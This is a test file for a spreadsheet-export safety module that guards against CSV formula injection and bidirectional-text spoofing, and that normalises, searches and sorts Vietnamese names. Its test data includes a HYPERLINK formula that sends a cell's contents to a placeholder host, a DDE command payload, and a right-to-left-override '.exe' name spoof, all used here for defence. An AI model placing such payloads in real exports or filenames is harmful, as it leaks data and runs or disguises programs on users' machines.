import Papa from 'papaparse';
import { exportCell, exportText, hasBidiControls, normalizeName, stripBidiControls } from './text-safety';
import { compareVietnamese, foldForSearch, personSortKey, vietnameseSortKey } from './vietnamese';

const RLO = '\u202E';
const ALL_BIDI = ['\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069'];

describe('exportCell (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', `'=HYPERLINK("http://x.example/?"&A1,"Bấm")`],
    ['+1', "'+1"],
    ['-2', "'-2"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
  ])('neutralizes %j', (hostile, inert) => expect(exportCell(hostile)).toBe(inert));

  it('leaves ordinary text, inner formula characters and empty cells as they are', () => {
    for (const ok of ['Đoàn Thu Hà', 'Phó Chủ tịch UBND tỉnh', 'a=b', 'Số 1+1', ' =1', '', "'=already text"]) expect(exportCell(ok)).toBe(ok);
    expect(exportCell(null)).toBe('');
    expect(exportCell(undefined)).toBe('');
  });

  it('removes bidi controls before looking at the first character, so one cannot hide an "="', () => {
    expect(exportCell(`${RLO}=1+1`)).toBe("'=1+1");
    expect(exportCell(`\u2066-2\u2069`)).toBe("'-2");
  });

  it('survives a CSV round trip as text that starts with the apostrophe', () => {
    const csv = Papa.unparse([['=cmd|"/c calc"!A1', '-2', 'Nguyễn Văn A']].map((r) => r.map(exportCell)));
    const [row] = Papa.parse<string[]>(csv).data;
    expect(row).toEqual(['\'=cmd|"/c calc"!A1', "'-2", 'Nguyễn Văn A']);
    expect(row.every((c) => !/^[=+\-@\t\r]/.test(c))).toBe(true);
  });
});

describe('bidi controls', () => {
  it('strips every embedding, override and isolate control, and only those', () => {
    const name = `Nguyễn${ALL_BIDI.join('')} Văn A`;
    expect(hasBidiControls(name)).toBe(true);
    expect(stripBidiControls(name)).toBe('Nguyễn Văn A');
    expect(exportText(name)).toBe('Nguyễn Văn A');
    // the marks LRM/RLM and ordinary punctuation are not controls
    expect(stripBidiControls('a\u200Eb-c')).toBe('a\u200Eb-c');
    expect(exportText('-2')).toBe('-2'); // documents evaluate nothing: no apostrophe there
  });
});

describe('normalizeName', () => {
  it('makes Ð/ð from Word the Vietnamese Đ/đ, composes to NFC and drops bidi controls', () => {
    expect(normalizeName('\u00D0ặng Văn A')).toBe('Đặng Văn A');
    expect(normalizeName('Lê \u00F0ình')).toBe('Lê đình');
    expect(normalizeName('Đặng'.normalize('NFD'))).toBe('Đặng');
    expect(normalizeName(`Trần Văn B${RLO}gnp.exe`)).toBe('Trần Văn Bgnp.exe');
  });

  it('is idempotent and leaves clean names alone', () => {
    for (const name of ['Đoàn Thu Hà', 'Ủy ban nhân dân tỉnh Đắk Lắk', '\u00D0ặng\u202E']) expect(normalizeName(normalizeName(name))).toBe(normalizeName(name));
    expect(normalizeName('Đoàn Thu Hà')).toBe('Đoàn Thu Hà');
  });
});

describe('Ð folded with Đ in search and sorting', () => {
  it('finds "Ðặng Văn A" from "Đặng" and from "dang"', () => {
    const folded = foldForSearch('\u00D0ặng Văn A');
    expect(folded).toBe('dang van a');
    expect(folded).toContain(foldForSearch('Đặng'));
    expect(folded).toContain(foldForSearch('dang'));
    expect(foldForSearch('\u00F0ặng')).toBe('dang');
    expect(foldForSearch(`Đặng${RLO} Văn`)).toBe('dang van');
  });

  it('sorts "Ðặng" with the Đ names, after D and before E, as if it were typed with Đ (Đào < Đặng: a < ă)', () => {
    const names = ['Dung', 'Ðặng', 'Đoàn', 'Đào', 'Em', 'Doãn'];
    expect([...names].sort(compareVietnamese)).toEqual(['Doãn', 'Dung', 'Đào', 'Ðặng', 'Đoàn', 'Em']);
    expect(vietnameseSortKey('\u00D0ặng')).toBe(vietnameseSortKey('Đặng'));
    expect(vietnameseSortKey('\u00F0ặng')).toBe(vietnameseSortKey('đặng'));
    expect(personSortKey('\u00D0ặng Văn A')).toBe(personSortKey('Đặng Văn A'));
  });

  it('sorts people by given name, then the whole name', () => {
    const people = ['Nguyễn Văn Bình', 'Trần Thị An', 'Lê Văn An'];
    expect([...people].sort((a, b) => (personSortKey(a) < personSortKey(b) ? -1 : 1))).toEqual(['Lê Văn An', 'Trần Thị An', 'Nguyễn Văn Bình']);
  });
});
